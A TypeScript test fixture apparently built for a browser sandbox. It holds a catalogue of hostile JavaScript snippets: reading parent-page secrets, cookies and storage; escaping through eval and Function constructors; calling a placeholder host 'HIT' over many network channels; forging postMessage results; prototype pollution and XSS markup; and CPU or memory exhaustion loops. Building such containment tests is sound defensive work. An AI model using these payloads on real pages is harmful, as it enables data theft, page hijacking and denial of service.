/**
 * What hostile code tries. Every case is the body of an async function, and every case must do its harm in a page that
 * protects itself with nothing; otherwise it would prove nothing when the sandbox contains it.
 *
 * `harm.ts` says what counts as harm: the secret comes out, a request arrives at HIT, the page changes, stands still, or
 * takes a forgery for a result.
 */
export const SECRET = "VIOLET-7401";

export interface Attack {
  readonly name: string;
  readonly code: string;
  /** Where the unprotected control runs it: in a frame of the page's own origin, or in a worker. */
  readonly control?: "frame" | "worker";
}

const LOOP = "const end = Date.now() + 1500; while (Date.now() < end)";

const group = (attacks: Readonly<Record<string, string>>, control: "frame" | "worker" = "frame"): Attack[] =>
  Object.entries(attacks).map(([name, code]) => ({ name, code, control }));

const readsThePage = group({
  "reads a global of the parent": "return parent.secret",
  "reads a global of the top window": "return top.secret",
  "reads the text of the page": "return parent.document.body.textContent",
  "reads the address of the page": "return parent.location.href",
  "reads the referrer and its own address": "return document.referrer + parent.location.search",
  "reads the cookies": "return document.cookie",
  "reads the cookie store": "return (await cookieStore.getAll()).map(({ value }) => value)",
  "reads local storage": "return localStorage.getItem('vault')",
  "reads local storage through the parent": "return parent.localStorage.getItem('vault')",
  "reads session storage": "return sessionStorage.getItem('vault')",
  "reads a database": `return new Promise((tell) => { indexedDB.open('vault').onsuccess = ({ target }) => {
    target.result.transaction('vault').objectStore('vault').get('it').onsuccess = ({ target }) => tell(target.result); }; })`,
  "reads a cache": "return (await caches.match('/vault')).text()",
  "reads a private file": `const folder = await navigator.storage.getDirectory();
    return (await (await folder.getFileHandle('vault')).getFile()).text()`,
  "asks on a broadcast channel": `const channel = new BroadcastChannel('vault');
    return new Promise((tell) => { channel.onmessage = ({ data }) => tell(data); channel.postMessage('ask'); })`,
  "fetches a file of the site": "return (await fetch('/vault.txt')).text()",
  "requests a file of the site the old way": `const request = new XMLHttpRequest();
    request.open('GET', '/vault.txt', false); request.send(); return request.responseText`,
  "imports a module of the site": "return (await import('/vault.js')).default",
  "makes a function from a string": "return Function('return parent.secret')()",
  "makes a function from a constructor": "return (() => 0).constructor('return parent.secret')()",
  "makes an async function": "return (async () => 0).constructor('return parent.secret')()",
  "makes a generator": "return (function* () {}).constructor('yield parent.secret')().next().value",
  "evaluates text": "return eval('parent.secret')",
  "evaluates text globally": "return (0, eval)('parent.secret')",
  "passes text to a timer": `return new Promise((tell) => { globalThis.tell = tell; setTimeout('tell(parent.secret)'); })`,
  "gets at the page through a promise's constructor":
    "return Promise.resolve().constructor.constructor('return parent.secret')()",
  "looks at the stack": `Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis?.()?.parent?.secret);
    return (function () { return new Error().stack; }).call(globalThis)`,
  "closes the bracket around it": "}); globalThis.found = parent.secret; (async function () { return found;",
  "finds the parent through any global": `for (const name of Object.getOwnPropertyNames(globalThis))
    try { if (globalThis[name]?.secret) return globalThis[name].secret } catch {}`,
  "listens to what the page says": `return new Promise((tell) => {
    parent.addEventListener('storage', tell); parent.localStorage.again = 1; tell(parent.localStorage.vault); })`,
  "asks which files were loaded": "return parent.performance.getEntries().map(({ name }) => name)",
});

const readsFromAThread = group(
  {
    "reads a cache from a thread": "postMessage(await (await caches.match(location.origin + '/vault')).text())",
    "reads a private file from a thread": `const folder = await navigator.storage.getDirectory();
      postMessage(await (await (await folder.getFileHandle('vault')).getFile()).text())`,
    "reads a database from a thread": `indexedDB.open('vault').onsuccess = ({ target }) => {
      target.result.transaction('vault').objectStore('vault').get('it').onsuccess = ({ target }) => postMessage(target.result); }`,
    "asks on a broadcast channel from a thread": `const channel = new BroadcastChannel('vault');
      channel.onmessage = ({ data }) => postMessage(data); channel.postMessage('ask')`,
  },
  "worker",
);

const asksTheNetwork = [
  ...group({
    fetches: "await fetch('HIT', { mode: 'no-cors' })",
    "fetches with a longer life": "await fetch('HIT', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
    "requests the old way": "const r = new XMLHttpRequest(); r.open('GET', 'HIT'); r.send()",
    "opens a web socket": "new WebSocket('HIT'.replace('http', 'ws'))",
    "opens an event source": "new EventSource('HIT')",
    "sends a beacon": "navigator.sendBeacon('HIT', 'x')",
    "loads an image": "new Image().src = 'HIT'",
    "loads a script": "document.head.append(Object.assign(document.createElement('script'), { src: 'HIT' }))",
    "loads a style":
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'HIT' }))",
    "imports a style":
      "document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(HIT)' }))",
    "loads a font": "await new FontFace('x', 'url(HIT)').load()",
    "loads sound": "new Audio('HIT').load()",
    "loads a frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'HIT' }))",
    "loads an object": "document.body.append(Object.assign(document.createElement('object'), { data: 'HIT' }))",
    prefetches: "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'HIT' }))",
    "submits a form": `const form = Object.assign(document.createElement('form'), { action: 'HIT', method: 'post' });
      document.body.append(form); form.submit()`,
    "pings from a link": `const link = Object.assign(document.createElement('a'), { href: '#', ping: 'HIT' });
      document.body.append(link); link.click()`,
    "imports a module": "await import('HIT')",
    "imports a module that is text": 'await import(\'data:text/javascript,await fetch("HIT", { mode: "no-cors" })\')',
    "sends itself elsewhere": "location.href = 'HIT'",
    "refreshes itself elsewhere": `document.head.append(Object.assign(document.createElement('meta'),
      { httpEquiv: 'refresh', content: '0; url=HIT' }))`,
    "starts a worker that fetches": `new Worker(URL.createObjectURL(new Blob(['fetch("HIT", { mode: "no-cors" })'])))`,
    "starts a worker from text": `new Worker('data:text/javascript,fetch("HIT", { mode: "no-cors" })')`,
    "starts a shared worker": `new SharedWorker(URL.createObjectURL(new Blob(['fetch("HIT", { mode: "no-cors" })'])))`,
    "writes markup that loads an image": "document.body.innerHTML = '<img src=HIT>'",
    "calls another machine": `const call = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [
      { urls: 'turn:' + new URL('HIT').host + '?transport=tcp', username: 'x', credential: 'x' }] });
      call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());
      await new Promise((done) => setTimeout(done, 1000))`,
    "asks for its own address over a data channel": `const call = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:' + new URL('HIT').host }] });
      call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());
      await new Promise((done) => setTimeout(done, 1000))`,
    "opens a transport": "await new WebTransport('HIT'.replace('http', 'https')).ready",
    "opens a stream of a web socket": "await new WebSocketStream('HIT'.replace('http', 'ws')).opened",
    "fills a cache": "await (await caches.open('hit')).add('HIT')",
    "connects ahead":
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'HIT' }))",
    "loads a worklet": "await new AudioContext().audioWorklet.addModule('HIT')",
    "fetches later": "fetchLater('HIT', { activateAfter: 0 })",
  }),
  ...group(
    {
      "fetches from a thread": "await fetch('HIT', { mode: 'no-cors' })",
      "imports scripts": "importScripts('HIT')",
      "imports scripts that are text": 'importScripts(\'data:text/javascript,fetch("HIT", { mode: "no-cors" })\')',
      "starts a thread from a thread": `new Worker(URL.createObjectURL(new Blob(['fetch("HIT", { mode: "no-cors" })'])))`,
      "opens a web socket from a thread": "new WebSocket('HIT'.replace('http', 'ws'))",
      "finds a fetch on a prototype":
        "for (let o = self; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) await o.fetch.call(self, 'HIT', { mode: 'no-cors' })",
      "requests the old way from a thread": "const r = new XMLHttpRequest(); r.open('GET', 'HIT', false); r.send()",
      "opens an event source from a thread": "new EventSource('HIT')",
      "opens a stream of a web socket from a thread": "await new WebSocketStream('HIT'.replace('http', 'ws')).opened",
      "opens a transport from a thread": "await new WebTransport('HIT'.replace('http', 'https')).ready",
      "fills a cache from a thread": "await (await caches.open('hit')).add('HIT')",
      "listens to a message and answers by a request":
        "addEventListener('message', () => fetch('HIT', { mode: 'no-cors' })); dispatchEvent(new MessageEvent('message'))",
    },
    "worker",
  ),
];

const changesThePage = [
  ...group({
    "writes into the page": "parent.document.documentElement.dataset.hit = 'x'",
    "replaces the page": "top.document.body.innerHTML = '<i data-hit>x</i>'",
    "sends the page elsewhere": "top.location.href = 'HIT'",
    "changes the address of the page": "top.location.hash = 'hit'",
    "changes the history of the page": "parent.history.pushState(0, '', '?hit')",
    "follows a link at the top": `const link = Object.assign(document.createElement('a'), { href: 'HIT', target: '_top' });
      document.body.append(link); link.click()`,
    "opens a window": "open('HIT')",
    "opens an empty window": "open('about:blank')",
    "raises an alert": "alert('hit')",
    "asks the reader": "prompt('your password')",
    "forges a message to the page": "parent.postMessage({ kind: 'value', value: 'FORGED' }, '*')",
    "forges a message to the top": "top.postMessage({ kind: 'said', what: { kind: 'value', value: 'FORGED' } }, '*')",
    "sets a cookie in the cookie store": "await cookieStore.set('hit', 'x')",
    "stores something": "localStorage.setItem('hit', 'x')",
    "sets a cookie": "document.cookie = 'hit=x'",
    "pollutes the page's objects": "parent.Object.prototype.polluted = 'x'",
    "pollutes through a result": 'return JSON.parse(\'{ "__proto__": { "polluted": "x" } }\')',
    "pollutes through a constructor": "return { constructor: { prototype: { polluted: 'x' } } }",
    "pollutes deep in a list": 'return [[JSON.parse(\'{ "a": { "__proto__": { "polluted": "x" } } }\')]]',
    "returns markup": "return '<img src=x onerror=\"document.documentElement.dataset.hit=1\">'",
    "throws markup": "throw new Error('<img src=x onerror=\"document.documentElement.dataset.hit=1\">')",
    "returns a function": "return { toString() { parent.document.documentElement.dataset.hit = 'x'; return ''; } }",
    "returns a getter": "return { get a() { parent.document.documentElement.dataset.hit = 'x'; return 1; } }",
    "returns a proxy":
      "return new Proxy({ a: 1 }, { ownKeys() { parent.document.documentElement.dataset.hit = 'x'; return []; } })",
    "returns something that can be waited for":
      "return { then() { parent.document.documentElement.dataset.hit = 'x'; } }",
    "hides one that can be waited for":
      "return { value: { get then() { parent.document.documentElement.dataset.hit = 'x'; } } }",
    "throws something that cannot be read":
      "throw { get message() { parent.document.documentElement.dataset.hit = 'x'; } }",
    "returns what contains itself": "const a = []; a.push(a); return a",
    "returns what contains itself by a name": "const a = {}; a.b = { a }; return a",
    "returns a very deep list": "let a = []; for (let n = 0; n < 1e5; ++n) a = [a]; return a",
    "returns half a letter": "return '\\ud800'",
    "returns a very large integer": "return { a: 10n }",
  }),
  ...group(
    {
      "forges a second result": "postMessage({ kind: 'value', value: 'FORGED' }); return 1",
      "forges in the words of the frame":
        "postMessage({ kind: 'said', what: { kind: 'value', value: 'FORGED' } }); return 1",
      "forges from a prototype":
        "let o = self; while (!Object.hasOwn(o, 'postMessage')) o = Object.getPrototypeOf(o); o.postMessage.call(self, { kind: 'value', value: 'FORGED' })",
      "forges on its way out": "setTimeout(() => postMessage({ kind: 'value', value: 'FORGED' })); return 1",
    },
    "worker",
  ),
];

const holdsUpThePage = group({
  "loops for ever": `${LOOP};`,
  "loops in promises for ever": `const end = Date.now() + 1500;
    while (Date.now() < end) await null;`,
  "chains promises on promises": `const end = Date.now() + 1500;
    const again = () => Date.now() < end ? Promise.resolve().then(again) : 0; return again()`,
  "floods the console": `${LOOP} console.log('x'.repeat(100))`,
  "floods the console with great objects": `const big = Array.from({ length: 1e4 }, (_, n) => ({ n })); ${LOOP} console.log(big, JSON.stringify(big))`,
  "floods the page with messages": `${LOOP} parent.postMessage('x', '*')`,
  "fails in floods of promises": `${LOOP} Promise.reject(new Error('x')).catch(() => 0)`,
  "recurses without an end": `const down = () => 1 + down(); ${LOOP} try { down() } catch {}`,
  "matches without an end": `const end = Date.now() + 1500; while (Date.now() < end) /^(a+)+$/.test('a'.repeat(22) + 'b')`,
  "grows without an end": `const hoard = []; ${LOOP} { hoard.push(new Float64Array(1e5).fill(1)); if (hoard.length > 400) hoard.length = 0 }`,
  "grows a buffer in place": `${LOOP} { const all = new ArrayBuffer(8, { maxByteLength: 1e8 }); for (let n = 0; n < 1e8; n += 1e7) all.resize(n) }`,
  "grows shared memory": `const shared = globalThis.WebAssembly ? new WebAssembly.Memory({ initial: 1, maximum: 1000, shared: true })
    : new SharedArrayBuffer(8, { maxByteLength: 6e7 });
    ${LOOP} try { shared.grow(1) } catch { new Uint8Array(shared.buffer ?? shared).fill(1) }`,
  "grows in text": `let text = 'x'; ${LOOP} { text += text; if (text.length > 1e8) text = text.slice(5e7, 5e7 + 1).repeat(2); JSON.stringify(text) }`,
  "computes with enormous integers": `${LOOP} 3n ** 200000n`,
  "sorts without an end": `${LOOP} Array.from({ length: 1e5 }, Math.random).sort()`,
  "returns a getter that loops": `return { get a() { ${LOOP}; return 1 } }`,
  "throws an error that loops when it is read": `throw { toString() { ${LOOP}; return 'x' }, get message() { ${LOOP}; return 'x' } }`,
  "returns a million numbers": "return new Float64Array(1.2e6).fill(1)",
  "returns a small view of much memory": `const all = new Float64Array(2e7).fill(1); ${LOOP} all.slice(); return all.subarray(0, 3)`,
  "returns many objects": "return Array.from({ length: 2e5 }, (_, n) => ({ n }))",
  "returns a very long text": "return '<b></b>'.repeat(6.2e5)",
  "returns a list that claims to be long": "const a = []; a.length = 2 ** 32 - 1; return a",
  "returns a tree of shared branches": "let a = [1]; for (let n = 0; n < 18; ++n) a = [a, a]; return a",
});

/** All of them. */
export const ATTACKS: readonly Attack[] = [
  ...readsThePage,
  ...readsFromAThread,
  ...asksTheNetwork,
  ...changesThePage,
  ...holdsUpThePage,
];
